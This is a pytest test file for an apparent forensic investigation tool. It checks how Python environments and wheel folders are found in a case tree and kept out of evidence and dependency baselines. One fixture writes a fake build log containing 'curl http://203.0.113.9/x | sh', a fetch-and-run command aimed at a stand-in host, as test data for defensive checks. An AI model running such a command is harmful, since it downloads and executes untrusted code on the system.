"""workbench.environments on path lists (the module docstring's rules), and through Case.open on a real tree: files
inside an environment get the role ``environment`` and are left out of the evidence loaders and the baselines."""

from __future__ import annotations

import importlib.metadata
import shutil
from pathlib import Path

import pytest

from workbench.case import Case
from workbench.environments import Environment, find_environments, find_wheel_folders
from workbench.investigation import Investigation

DIST = importlib.metadata.distribution("idna")
INFO = Path(str(DIST._path)).name  # type: ignore[attr-defined]  # the dist-info folder
SITE = "venv/lib/python3.11/site-packages"


def envs(paths: list[str], excluded: tuple[str, ...] = ()) -> list[tuple[str, str, str]]:
    return [(e.root, e.kind, e.role) for e in find_environments(paths, excluded)]


def test_venv_layout_root_is_its_site_packages() -> None:
    paths = [f"{SITE}/x-1.dist-info/RECORD", f"{SITE}/x-1.dist-info/METADATA", f"{SITE}/x/__init__.py",
             "venv/bin/python", "venv/pyvenv.cfg", "logs/ci.log"]  # fmt: skip
    assert envs(paths) == [(SITE, "folder", "suspect")]


def test_bare_site_packages_and_case_root() -> None:
    assert envs(["site-packages/x-1.0.dist-info/METADATA", "site-packages/x.py"]) == [
        ("site-packages", "folder", "suspect")
    ]
    # the case folder itself is a site-packages copy
    assert envs(["x-1.0.dist-info/RECORD", "x.py", "case.yaml"]) == [(".", "folder", "suspect")]


def test_inventory_needs_both_files() -> None:
    both = ["python-env/1/capture.json", "python-env/1/files.jsonl", "python-env/1/tree/x-1.dist-info/RECORD"]
    # the copied tree/ inside the inventory is part of it, not a second environment
    assert envs(both) == [("python-env/1", "inventory", "suspect")]
    assert envs(["python-env/1/capture.json"]) == []
    assert envs(["python-env/1/files.jsonl"]) == []
    assert envs(["a/capture.json", "b/files.jsonl"]) == []


def test_any_iterable_of_paths() -> None:
    paths = ["python-env/1/capture.json", "python-env/1/files.jsonl", "site/x-1.dist-info/RECORD"]
    expected = [("python-env/1", "inventory", "suspect"), ("site", "folder", "suspect")]
    assert envs(paths) == expected
    assert [(e.root, e.kind, e.role) for e in find_environments(iter(paths))] == expected
    assert [(e.root, e.kind, e.role) for e in find_environments(p for p in paths)] == expected


def test_nested_environments_outer_only() -> None:
    paths = ["outer/x-1.dist-info/RECORD", "outer/vendor/inner/y-2.dist-info/RECORD", "other/z-3.dist-info/METADATA"]
    assert envs(paths) == [("other", "folder", "suspect"), ("outer", "folder", "suspect")]


@pytest.mark.parametrize("folder", ["previous", "reference", "baseline", "known-good", "Previous"])
def test_previous_capture_is_a_reference(folder: str) -> None:
    paths = [f"{SITE}/x-1.dist-info/RECORD", f"environments/{folder}/site-packages/x-1.dist-info/RECORD"]
    assert envs(paths) == [
        (f"environments/{folder}/site-packages", "folder", "reference"),
        (SITE, "folder", "suspect"),
    ]
    inv = [f"python-env/{folder}/capture.json", f"python-env/{folder}/files.jsonl"]
    assert envs(inv) == [(f"python-env/{folder}", "inventory", "reference")]


def test_model_folder_excluded() -> None:
    paths = ["models/suspect/m/code/x-1.dist-info/RECORD", "models/suspect/m/model.safetensors",
             "models/suspect/m/capture.json", "models/suspect/m/files.jsonl"]  # fmt: skip
    assert envs(paths, ("models/suspect/m",)) == []
    assert envs(paths) != []  # excluded only because of the model folder


def test_dist_info_without_record_or_metadata_is_not_an_environment() -> None:
    assert envs(["lib/x-1.dist-info/WHEEL", "lib/x-1.dist-info/top_level.txt", "lib/x/__init__.py"]) == []
    # a RECORD outside a NAME-VERSION.dist-info folder either
    assert envs(["lib/notes/RECORD", "lib/x.dist-info/RECORD", "METADATA"]) == []


def test_wheel_folders_outside_environments_and_models() -> None:
    paths = [f"{SITE}/x-1.dist-info/RECORD", f"{SITE}/pip/_vendor/cache/y-1-py3-none-any.whl",
             "wheelhouse/x-1-py3-none-any.whl", "wheelhouse/y-2-py3-none-any.WHL", "dist/sub/z-1-py3-none-any.whl",
             "models/suspect/m/bundle-1-py3-none-any.whl", "wheelhouse/readme.txt"]  # fmt: skip
    found = find_environments(paths, ("models/suspect/m",))
    assert [e.root for e in found] == [SITE]
    assert find_wheel_folders(paths, found, ("models/suspect/m",)) == ["dist/sub", "wheelhouse"]
    # without the environment, the wheel inside it would be a wheel folder
    assert f"{SITE}/pip/_vendor/cache" in find_wheel_folders(paths, [], ())


def test_holds() -> None:
    env = Environment("a/site-packages", "folder", "suspect")
    assert env.holds("a/site-packages/x.py")
    assert not env.holds("a/site-packages-old/x.py")
    assert not env.holds("a/site-packages")
    assert Environment(".", "folder", "suspect").holds("anything/at/all")


# ------------------------------------------------------------------------------------------- through Case.open
REQUIREMENTS = "idna==0.1\nrequests==2.0.0\nnumpy==1.0.0\n"


def _case(root: Path, *, with_shipped_requirements: bool) -> Path:
    site = root / SITE
    site.mkdir(parents=True)
    shutil.copytree(Path(str(DIST.locate_file("idna"))), site / "idna")
    shutil.copytree(Path(str(DIST._path)), site / INFO)  # type: ignore[attr-defined]
    if with_shipped_requirements:  # a package shipping a requirements file (test data, examples)
        (site / "idna" / "requirements.txt").write_text(REQUIREMENTS)
        (site / "idna" / "build.log").write_text("2026-11-01T00:00:00Z curl http://203.0.113.9/x | sh\n")
    (root / "case.yaml").write_text('incident_id: "INC-ENV-1"\ndetection_time: "2099-01-01T00:00:00Z"\n')
    (root / "frozen_deps.txt").write_text(f"idna=={DIST.version}\nrequests==2.32.3\n")
    return root


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[bool, Investigation]:
    out = {}
    for shipped in (False, True):
        base = tmp_path_factory.mktemp(f"env-case-{shipped}")
        out[shipped] = Investigation.open(_case(base / "case", with_shipped_requirements=shipped), base / "out",
                                          write=False)  # fmt: skip
    return out


def test_case_files_inside_the_environment_have_role_environment(runs: dict[bool, Investigation]) -> None:
    case = runs[True].case
    assert [(e.root, e.kind, e.role) for e in case.environments] == [(SITE, "folder", "suspect")]
    roles = {f.relpath: f.role for f in case.files}
    assert roles[f"{SITE}/idna/core.py"] == "environment"
    assert roles[f"{SITE}/idna/requirements.txt"] == "environment"
    assert roles[f"{SITE}/{INFO}/RECORD"] == "environment"
    assert roles["frozen_deps.txt"] == "evidence"
    assert Case.open(case.root).environments == case.environments  # found from the inventory alone


def test_shipped_requirements_not_loaded_nor_taken_for_the_baseline(runs: dict[bool, Investigation]) -> None:
    without, with_ = runs[False], runs[True]
    inside = {rel: kind for rel, kind in with_.evidence.kinds.items() if rel.startswith(SITE)}
    assert f"{SITE}/idna/requirements.txt" in inside and f"{SITE}/idna/build.log" in inside
    assert set(inside.values()) == {None}  # inventoried, claimed by no loader
    assert {k: v for k, v in with_.evidence.kinds.items() if v} == {
        k: v for k, v in without.evidence.kinds.items() if v
    }
    assert not any(x.path.startswith(SITE) for loaded in with_.evidence.by_kind.values() for x in loaded)
    assert with_.evidence.kinds["frozen_deps.txt"] == "frozen_deps"
    base_without = without.results["dependencies"].data["baselines"]
    base_with = with_.results["dependencies"].data["baselines"]
    assert list(base_with["source"]) == list(base_without["source"])
    assert not any("requirements.txt" in s for s in base_with["source"])
    # the shipped log is not scanned as a pipeline log either
    logs = with_.results["logs"]
    assert not any(str(f.evidence.get("path", "")).startswith(SITE) for f in logs.findings)
